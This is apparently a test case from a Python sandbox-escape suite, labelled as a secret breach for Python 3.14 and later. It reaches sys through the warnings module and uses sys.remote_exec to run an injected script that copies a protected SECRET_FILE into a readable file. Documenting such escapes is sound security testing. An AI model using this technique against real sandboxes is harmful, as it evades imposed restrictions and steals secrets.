# The function behind sys.remote_exec, from another name of sys.
# breach: secret
# only: 3.14+
import os, warnings
with open("script.py", "w") as file:
    file.write(f"open('got.txt', 'w').write(open({SECRET_FILE!r}).read())")
warnings.sys.remote_exec(os.getpid(), "script.py")
with open("got.txt") as file:
    got = file.read()
got
